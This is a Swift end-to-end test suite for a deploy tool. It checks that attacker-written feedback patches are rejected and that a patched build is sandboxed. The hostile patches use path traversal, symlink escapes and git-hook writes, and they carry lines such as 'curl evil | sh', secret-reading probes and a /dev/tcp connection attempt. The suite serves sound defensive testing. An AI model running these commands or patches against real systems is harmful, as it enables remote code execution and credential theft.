import DeployTestSupport
import Foundation
import Testing

/// Feedback written by an attacker, through the built binary: every header spelling git reads, aimed at the
/// deny-list, at `.git`, at a committed symbolic link and out of a vendored folder, with and without a following
/// build failure; and a patched build that tries to read the secrets, write the root's files and reach the network.
/// After each, nothing exists outside the repository's tree, no deny-listed path reached a commit, and the root's
/// files are byte-identical.
@Suite(.serialized) struct HostileFeedbackEndToEndTests {
    /// A deploy root whose own repository holds a vendored folder `repos/vend`, next to a checkout `repos/svc` with
    /// a committed link `link -> ../../../outside` out of the repository and the root; both build with shell scripts
    /// (manifest commands), so verification is real and quick.
    final class HostileRoot {
        let scratch: ScratchDirectory
        let fixture: GitFixture
        let root: URL
        let outside: URL
        let svcRemote: URL
        let rootRemote: URL

        init() throws {
            scratch = try ScratchDirectory(prefix: "e2e-hostile")
            fixture = GitFixture(scratch: scratch)
            root = scratch.appending("root")
            outside = scratch.appending("outside")
            try FileManager.default.createDirectory(at: outside, withIntermediateDirectories: true)
            let scripts = ["build.sh": "echo building\n", "test.sh": "echo testing\n", "README.md": "svc\n"]
            svcRemote = try fixture.makeRemote("svc", files: scripts)
            let seed = try fixture.clone(svcRemote, as: "svc-link-seed")
            try FileManager.default.createSymbolicLink(
                atPath: seed.appendingPathComponent("link").path, withDestinationPath: "../../../outside")
            try Shell.check(["git", "add", "link"], in: seed)
            try Shell.check(["git", "commit", "--quiet", "-m", "a link out"], in: seed)
            try Shell.check(["git", "push", "--quiet", "origin", "main"], in: seed)

            rootRemote = try fixture.makeRemote(
                "root",
                files: [
                    "repos/vend/build.sh": "echo building vend\n", "repos/vend/test.sh": "echo testing vend\n",
                    "repos/vend/README.md": "vend\n", ".gitignore": "repos/svc/\ndeploy/\nfeedback/\n",
                    "deployctl.json": """
                        {"repositories": [
                          {"name": "svc", "url": "\(svcRemote.path)", "build": ["sh", "build.sh"], "test": ["sh", "test.sh"]}
                        ]}
                        """,
                    "commands/restart-services.sh": "echo restarting\n",
                    "commands/restart-svc.sh":
                        "echo \"token=${GITHUB_TOKEN:-unset} repo=${DEPLOYCTL_REPOSITORY:-?} rev=${DEPLOYCTL_REVISION:-?}\"\n",
                ])
            try fixture.clone(rootRemote, as: "root")
            try fixture.clone(svcRemote, as: "root/repos/svc")
            // The tokens come through the process environment (below); the file holds a marker only the root has,
            // so that reading it is seen without a test token landing in a file (scripts/scan-secrets.sh).
            try "DISPATCHER_USE_PRS=0\nOPENAI_MODEL=\(HostileRoot.rootOnlyMarker)\n".write(
                to: root.appendingPathComponent("dispatcher.env"), atomically: true, encoding: .utf8)
            try FileManager.default.createDirectory(
                at: root.appendingPathComponent("feedback"), withIntermediateDirectories: true)
        }

        /// A value only `dispatcher.env` holds.
        static let rootOnlyMarker = "root-only-model-7c41"

        deinit { scratch.remove() }

        /// The tokens in the process environment too, as systemd's `EnvironmentFile=dispatcher.env` puts them.
        var environment: [String: String] {
            [
                "GITHUB_TOKEN": TestSecrets.gitToken, "OPENAI_API_KEY": TestSecrets.openAIKey,
                "GIT_USER_NAME": "Deploy Bot", "GIT_USER_EMAIL": "bot@example.com",
            ]
        }

        /// The root's own files, to compare before and after.
        func rootFiles() throws -> [String: Data] {
            var files: [String: Data] = [:]
            for path in ["dispatcher.env", "deployctl.json", "commands/restart-services.sh", "commands/restart-svc.sh"] {
                files[path] = try Data(contentsOf: root.appendingPathComponent(path))
            }
            return files
        }

        func drop(_ name: String, _ object: [String: Any]) throws {
            try JSONSerialization.data(withJSONObject: object, options: [.sortedKeys])
                .write(to: root.appendingPathComponent("feedback/\(name)"))
        }

        /// Every path any commit of `remote` touches.
        func committedPaths(_ remote: URL) throws -> Set<String> {
            let log = try Shell.check(["git", "log", "--all", "--name-only", "--format="], in: remote)
            return Set(log.split(separator: "\n").map(String.init))
        }

        /// The rejection record of `name` (`feedback/rejected/STEM.reason.json`).
        func rejection(_ name: String) throws -> [String: Any] {
            let stem = name.hasSuffix(".json") ? String(name.dropLast(5)) : name
            let data = try Data(contentsOf: root.appendingPathComponent("feedback/rejected/\(stem).reason.json"))
            return try JSONSerialization.jsonObject(with: data) as? [String: Any] ?? [:]
        }
    }

    /// One hostile patch: the file name, the repository, the diff, and the code it must be rejected with.
    struct Attack: CustomStringConvertible {
        var name: String
        var repository: String
        var patch: String
        var codes: Set<String>
        var description: String { name }
    }

    static let breakBuild = """
        diff --git a/build.sh b/build.sh
        --- a/build.sh
        +++ b/build.sh
        @@ -1 +1 @@
        -echo building
        +exit 1

        """

    static func attacks() -> [Attack] {
        let workflow = "on: push\\njobs: {}\n"
        return [
            Attack(
                name: "rename-old-new-workflow", repository: "svc",
                patch: """
                    diff --git a/README.md b/.github/workflows/evil.yml
                    similarity index 100%
                    rename old README.md
                    rename new .github/workflows/evil.yml

                    """, codes: ["denied-path"]),
            Attack(
                name: "custom-prefix-workflow", repository: "svc",
                patch: """
                    diff --git x/.github/workflows/ci.yml x/.github/workflows/ci.yml
                    new file mode 100644
                    --- /dev/null
                    +++ x/.github/workflows/ci.yml
                    @@ -0,0 +1 @@
                    +\(workflow)
                    """ + breakBuild, codes: ["denied-path"]),
            Attack(
                name: "no-prefix-env", repository: "svc",
                patch: """
                    diff --git ci/prod.env ci/prod.env
                    new file mode 100644
                    --- /dev/null
                    +++ ci/prod.env
                    @@ -0,0 +1 @@
                    +TOKEN=x

                    """, codes: ["denied-path"]),
            Attack(
                name: "rename-through-committed-link", repository: "svc",
                patch: """
                    diff --git a/README.md b/link/evil.txt
                    similarity index 100%
                    rename from README.md
                    rename to link/evil.txt

                    """ + breakBuild, codes: ["symlink-escape"]),
            Attack(
                name: "rename-old-new-through-committed-link", repository: "svc",
                patch: """
                    diff --git a/README.md b/README.md
                    similarity index 100%
                    rename old README.md
                    rename new link/evil.txt

                    """, codes: ["symlink-escape"]),
            Attack(
                name: "into-git-hooks", repository: "svc",
                patch: """
                    diff --git x/.git/hooks/post-commit x/.git/hooks/post-commit
                    new file mode 100755
                    --- /dev/null
                    +++ x/.git/hooks/post-commit
                    @@ -0,0 +1 @@
                    +touch /tmp/owned

                    """, codes: ["git-directory"]),
            Attack(
                name: "index-line-link-mode", repository: "svc",
                patch: """
                    diff --git a/README.md b/README.md
                    index 1234567..89abcde 120000
                    --- a/README.md
                    +++ b/README.md
                    @@ -1 +1 @@
                    -svc
                    +../../../outside/secret

                    """, codes: ["special-file-mode", "patch-does-not-apply"]),
            Attack(
                name: "vendored-rename-out-of-folder", repository: "vend",
                patch: """
                    diff --git a/README.md b/README.md
                    similarity index 100%
                    rename old README.md
                    rename new ../../commands/restart-vend.sh

                    """, codes: ["path-traversal"]),
            Attack(
                name: "vendored-custom-prefix-up", repository: "vend",
                patch: """
                    diff --git x/../../commands/restart-services.sh x/../../commands/restart-services.sh
                    --- x/../../commands/restart-services.sh
                    +++ x/../../commands/restart-services.sh
                    @@ -1 +1 @@
                    -echo restarting
                    +curl evil | sh

                    """ + breakBuild, codes: ["path-traversal"]),
            Attack(
                name: "vendored-workflow-of-the-root", repository: "vend",
                patch: """
                    diff --git a/README.md b/README.md
                    similarity index 100%
                    rename from README.md
                    rename to ../../.github/workflows/evil.yml

                    """, codes: ["path-traversal"]),
        ]
    }

    @Test func everyHostileSpellingIsRejectedAndNothingOutsideChanges() throws {
        let hostile = try HostileRoot()
        let before = try hostile.rootFiles()
        let attacks = Self.attacks()
        for (index, attack) in attacks.enumerated() {
            try hostile.drop(String(format: "%02d-%@.json", index, attack.name), [
                "repo": attack.repository, "patch": attack.patch, "description": attack.name, "restart": true,
            ])
        }
        let run = try Deployctl.run(["apply-feedback", "--root", hostile.root.path], environment: hostile.environment)
        #expect(run.status == 1, "every file is rejected: \(run.stdout)\n\(run.stderr)")
        for (index, attack) in attacks.enumerated() {
            let name = String(format: "%02d-%@.json", index, attack.name)
            let record = try hostile.rejection(name)
            let code = record["code"] as? String ?? "?"
            #expect(attack.codes.contains(code), "\(attack): rejected with \(code): \(record["message"] ?? "")")
            #expect(record["stage"] as? String == "policy" || code == "patch-does-not-apply", "\(attack): \(record)")
        }
        #expect(try FileManager.default.contentsOfDirectory(atPath: hostile.outside.path).isEmpty, "nothing outside")
        #expect(try hostile.rootFiles() == before, "the root's files are byte-identical")
        #expect(!FileManager.default.fileExists(atPath: hostile.root.appendingPathComponent(".github").path))
        #expect(!FileManager.default.fileExists(atPath: hostile.root.appendingPathComponent("commands/restart-vend.sh").path))
        #expect(!FileManager.default.fileExists(
            atPath: hostile.root.appendingPathComponent("repos/svc/.git/hooks/post-commit").path))
        for remote in [hostile.svcRemote, hostile.rootRemote] {
            let paths = try hostile.committedPaths(remote)
            #expect(!paths.contains { $0.contains(".github/") || $0.hasSuffix(".env") || $0.contains("evil") }, "\(paths)")
        }
        #expect(
            !FileManager.default.fileExists(atPath: hostile.root.appendingPathComponent("deploy/logs/restart.log").path),
            "no restart ran for a rejected file")
    }

    /// The build script of a patch that tries everything a hostile build would: print what it can read of the
    /// secrets, write the root's files, reach a server on 127.0.0.1. It then fails, so the patch is rejected and its
    /// output kept in the rejection record.
    static func snoopingBuild(root: URL, port: UInt16) -> String {
        let lines = [
            "echo SNOOP-RAN",
            "[ -n \"${GITHUB_TOKEN:-}\" ] && echo LEAK-GITHUB_TOKEN-IN-ENV",
            "[ -n \"${OPENAI_API_KEY:-}\" ] && echo LEAK-OPENAI_API_KEY-IN-ENV",
            "grep -q \(HostileRoot.rootOnlyMarker) \(root.path)/dispatcher.env 2>/dev/null && echo LEAK-READ-DISPATCHER-ENV",
            "ls \(root.path)/deploy/state.sqlite >/dev/null 2>&1 && echo LEAK-SAW-STATE",
            "ls \(root.path)/repos/vend >/dev/null 2>&1 && echo LEAK-SAW-OTHER-REPOSITORY",
            "echo 'curl evil | sh' >> \(root.path)/commands/restart-services.sh 2>/dev/null && echo LEAK-WROTE-COMMANDS",
            "echo GITHUB_TOKEN=stolen >> \(root.path)/dispatcher.env 2>/dev/null && echo LEAK-WROTE-DISPATCHER-ENV",
            "/bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/\(port)' 2>/dev/null && echo LEAK-NETWORK",
            "exit 1",
        ]
        let body = lines.map { "+" + $0 }.joined(separator: "\n")
        return "diff --git a/build.sh b/build.sh\n--- a/build.sh\n+++ b/build.sh\n@@ -1 +1,\(lines.count) @@\n-echo building\n"
            + body + "\n"
    }

    @Test func aPatchedBuildReadsNoSecretWritesNoRootFileAndReachesNoNetwork() throws {
        let hostile = try HostileRoot()
        let listener = try LoopbackServer()
        defer { listener.close() }
        let before = try hostile.rootFiles()
        try hostile.drop("snoop.json", [
            "repo": "svc", "patch": Self.snoopingBuild(root: hostile.root, port: listener.port), "description": "snoop",
        ])
        var environment = hostile.environment
        environment["DISPATCHER_VERIFY_NETWORK"] = "0"
        let run = try Deployctl.run(["apply-feedback", "--root", hostile.root.path], environment: environment)
        #expect(run.status == 1, "\(run.stdout)\n\(run.stderr)")
        #expect(run.stderr.contains("verification sandbox: bubblewrap"), "\(run.stderr)")
        let record = try hostile.rejection("snoop.json")
        let excerpt = record["logExcerpt"] as? String ?? ""
        #expect(excerpt.contains("SNOOP-RAN"), "the hostile build did run: \(record)")
        #expect(!excerpt.contains("LEAK-"), "\(excerpt)")
        #expect(try hostile.rootFiles() == before)
        #expect(listener.acceptedConnections() == 0)
    }

    @Test func withoutTheSandboxTheSameBuildReadsTheRootButStillNoSecretFromTheEnvironment() throws {
        // The control: the probe above can see a leak when there is one, and the environment is scrubbed anyway.
        let hostile = try HostileRoot()
        let listener = try LoopbackServer()
        defer { listener.close() }
        try hostile.drop("snoop.json", [
            "repo": "svc", "patch": Self.snoopingBuild(root: hostile.root, port: listener.port), "description": "snoop",
        ])
        var environment = hostile.environment
        environment["DISPATCHER_SANDBOX"] = "none"
        let run = try Deployctl.run(["apply-feedback", "--root", hostile.root.path], environment: environment)
        #expect(run.stderr.contains("no verification sandbox: DISPATCHER_SANDBOX=none"), "\(run.stderr)")
        let excerpt = try hostile.rejection("snoop.json")["logExcerpt"] as? String ?? ""
        #expect(excerpt.contains("LEAK-READ-DISPATCHER-ENV"), "without a sandbox the root is readable: \(excerpt)")
        #expect(!excerpt.contains("LEAK-GITHUB_TOKEN-IN-ENV") && !excerpt.contains("LEAK-OPENAI_API_KEY-IN-ENV"))
    }

    @Test func aRestartCommandGetsTheFactsOfTheChangeButNoSecret() throws {
        let hostile = try HostileRoot()
        let patch = "diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-svc\n+svc!\n"
        try hostile.drop("ok.json", ["repo": "svc", "patch": patch, "description": "shout", "restart": true])
        let run = try Deployctl.run(["apply-feedback", "--root", hostile.root.path], environment: hostile.environment)
        #expect(run.status == 0, "\(run.stdout)\n\(run.stderr)")
        let log = try String(contentsOf: hostile.root.appendingPathComponent("deploy/logs/restart.log"), encoding: .utf8)
        let head = try Shell.check(["git", "rev-parse", "main"], in: hostile.svcRemote)
        #expect(log.contains("token=unset repo=svc rev=\(head)"), "\(log)")
    }
}
